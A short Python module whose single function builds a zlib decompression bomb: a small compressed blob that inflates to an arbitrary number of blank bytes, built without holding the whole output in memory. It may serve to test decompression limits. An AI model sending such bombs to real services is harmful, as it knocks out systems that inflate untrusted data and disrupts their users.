"""A little that unpacks to very much."""

import zlib


def bomb(size):
    """As many blanks as that, packed, and never all of them in memory."""
    packing, million = zlib.compressobj(), b" " * 1_000_000
    pieces = [packing.compress(million) for _ in range(size // len(million))]
    return b"".join([*pieces, packing.compress(b" " * (size % len(million))), packing.flush()])
